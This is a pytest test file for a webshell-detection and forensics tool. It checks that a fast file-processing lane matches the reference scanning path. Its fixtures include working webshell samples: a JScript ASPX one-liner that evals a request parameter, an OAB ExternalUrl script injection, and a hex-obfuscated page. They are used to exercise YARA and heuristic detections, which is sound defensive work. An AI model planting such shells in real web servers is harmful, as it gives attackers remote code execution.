"""The worker's fast lane (``exhunt.smallfiles``) writes what the reference path (``worker._process``)
writes, row for row, for every kind of file a web root or a server copy holds; files it does not
take go to the reference path with the bytes it read."""

from __future__ import annotations

import random
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest

from exhunt import smallfiles, worker
from exhunt.detections.yara import load_rules
from exhunt.events.store import StoreWriter, connect
from exhunt.evidence import open_evidence
from exhunt.evidence.base import EvidenceFile
from exhunt.worker import init_scanner
from tests.helpers import zip_bytes

SHELL = b'<%@ Page Language="Jscript"%><% eval(Request.Item["z"],"unsafe"); %>'
OAB = (b"Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">"
       b"function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>\r\n")
OBFUSCATED = b'<%@ Page Language="C#"%><script runat="server">' + b"var s = " + b"+".join(
    b'"\\x%02x"' % c for c in b"System.Diagnostics.Process") * 20 + b";</script>"
IIS = (b"#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-method cs-uri-stem\r\n"
       b"2021-03-03 01:02:03 GET /owa/auth/x.js\r\n")
FILES = {
    "inetpub/wwwroot/aspnet_client/shell.aspx": SHELL,
    "inetpub/wwwroot/aspnet_client/plain.aspx": b'<%@ Page Language="C#" %>\r\n<html><body>hello</body></html>',
    "FrontEnd/HttpProxy/owa/auth/oab.aspx": OAB,
    "FrontEnd/HttpProxy/owa/auth/obf.aspx": OBFUSCATED,
    "FrontEnd/HttpProxy/owa/auth/script.js": b"function a(b, c) { return b + c; }\n",
    "FrontEnd/HttpProxy/owa/auth/style.css": b"body, html { margin: 0; }\n",
    "FrontEnd/HttpProxy/owa/auth/utf16.aspx": "\ufeff<%@ Page %>hello".encode("utf-16-le"),
    "inetpub/wwwroot/bin/lib.dll": b"MZ" + random.Random(1).randbytes(3000),
    "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": IIS,
    "inetpub/wwwroot/empty.aspx": b"",
    "inetpub/wwwroot/export.json": b'{"TimeCreated": "2021-03-03T01:02:03Z", "EventID": 4104}\n',
    "inetpub/wwwroot/fake.evtx": b"not an event log",
    "inetpub/wwwroot/pages.zip": zip_bytes({"a/inner.aspx": SHELL}),
    "inetpub/wwwroot/big.aspx": b"<%@ Page %>" + b"x" * (smallfiles.WHOLE_READ + 10),
}
TABLE_KEYS = {"files": "path", "matches": "path, rule, engine", "events": "path, line",
              "warnings": "path, message"}


@pytest.fixture
def scanner(tmp_path: Path):  # type: ignore[no-untyped-def]
    init_scanner(load_rules(cache=tmp_path / "cache").blob, 100 << 20)
    yield
    init_scanner(None, 0)


def _tree(root: Path) -> list[EvidenceFile]:
    for rel, data in FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return sorted(open_evidence(root).files(lambda rel, message: None), key=lambda f: f.rel)


def _tables(store: Path) -> dict[str, list[tuple]]:
    con = connect(store)
    return {table: con.execute(f"SELECT * FROM {table} ORDER BY {key}").fetchall()
            for table, key in TABLE_KEYS.items()}


def test_fast_lane_writes_what_the_reference_path_writes(tmp_path: Path, scanner: None) -> None:
    files = _tree(tmp_path / "evidence")
    with StoreWriter(tmp_path / "reference", "h", part="p") as writer:
        reference = [worker._process(f, "h", writer) for f in files]
    taken: list[int] = []
    with StoreWriter(tmp_path / "fast", "h", part="p") as writer:
        fast = smallfiles.process(files, "h", writer, taken.append)
    # each file when read and when checked, and the ones the fast lane takes when YARA-scanned
    n = len(files)
    assert taken[:n] == taken[-n:] == list(range(n)) and taken[n:-n] == sorted(set(taken[n:-n]))
    assert 0 < len(taken) - 2 * n < n
    assert fast == reference
    want, got = _tables(tmp_path / "reference"), _tables(tmp_path / "fast")
    assert got == want
    # the corpus exercises what it claims to: a YARA hit, a page event, a heuristic, a warning
    assert {r[3] for r in got["matches"]} >= {"exhunt_webshell_eval_request", "obfuscated_script_page"}
    assert any("oab_export_script" in map(str, r) for r in got["events"])
    assert got["warnings"]


def test_fast_lane_takes_pages_and_leaves_logs(tmp_path: Path, scanner: None, monkeypatch: pytest.MonkeyPatch) -> None:
    files = _tree(tmp_path / "evidence")
    slow: list[str] = []
    reference = worker._process

    def counted(file: EvidenceFile, *args, **kwargs):  # type: ignore[no-untyped-def]
        slow.append(file.rel.rsplit("/", 1)[-1])
        return reference(file, *args, **kwargs)

    monkeypatch.setattr(worker, "_process", counted)
    with StoreWriter(tmp_path / "store", "h", part="p") as writer:
        smallfiles.process(files, "h", writer, lambda index: None)
    assert sorted(slow) == ["big.aspx", "fake.evtx", "pages.zip", "u_ex210303.log", "utf16.aspx"]


def test_a_file_changed_since_the_listing_goes_the_reference_way(tmp_path: Path, scanner: None) -> None:
    files = _tree(tmp_path / "evidence")
    page = next(f for f in files if f.rel.endswith("plain.aspx"))
    (tmp_path / "evidence" / page.rel).write_bytes(b"<% grown %>" * 100)
    with StoreWriter(tmp_path / "store", "h", part="p") as writer:
        (result,) = smallfiles.process([page], "h", writer, lambda index: None)
    assert result.size == 1100
    messages = [r[-1] for r in _tables(tmp_path / "store")["warnings"]]
    assert any("file changed while read" in m for m in messages)


@pytest.mark.parametrize("seconds", [0.0, 1.0000005, 2.0000015, 1796329942.4751537, 1700000000.9999996, -1.5])
def test_timestamps_round_as_datetime_does(seconds: float) -> None:
    rng = random.Random(seconds)
    values = [seconds, None, *(rng.uniform(0, 2e9) for _ in range(2000))]
    want = pa.array([datetime.fromtimestamp(v, UTC) if v is not None else None for v in values],
                    smallfiles.TS)
    assert smallfiles.timestamps(values).equals(want)
    few = values[: smallfiles.SMALL_BATCH - 1]  # a small batch takes the datetime path
    assert smallfiles.timestamps(few).equals(want.slice(0, len(few)))


@pytest.mark.parametrize("error", ["timeout", "bug"])
def test_a_failed_scan_is_reported_as_the_reference_path_reports_it(tmp_path: Path, scanner: None,
                                                                   monkeypatch: pytest.MonkeyPatch,
                                                                   error: str) -> None:
    """The fast lane scans a unit's pages before checking them: what a scan raised (a yara-x timeout,
    a bug) still becomes the same warning rows, at the same file, with the rest of the unit kept."""
    import yara_x

    files = _tree(tmp_path / "evidence")
    real = worker.FileScanner.scan

    def failing(self, data: bytes, rel: str, host: str, sha256: str):  # type: ignore[no-untyped-def]
        if rel.endswith("plain.aspx"):
            raise yara_x.TimeoutError("timed out") if error == "timeout" else RuntimeError("broken")
        return real(self, data, rel, host, sha256)

    monkeypatch.setattr(worker.FileScanner, "scan", failing)
    with StoreWriter(tmp_path / "reference", "h", part="p") as writer:
        reference = [worker._process(f, "h", writer) for f in files]
    with StoreWriter(tmp_path / "fast", "h", part="p") as writer:
        fast = smallfiles.process(files, "h", writer, lambda index: None)
    assert fast == reference
    want, got = _tables(tmp_path / "reference"), _tables(tmp_path / "fast")
    assert got == want
    failed = [r for r in got["warnings"] if r[2].endswith("plain.aspx")]
    assert failed and ("YARA scan failed" if error == "timeout" else "content scan error") in failed[0][-1]
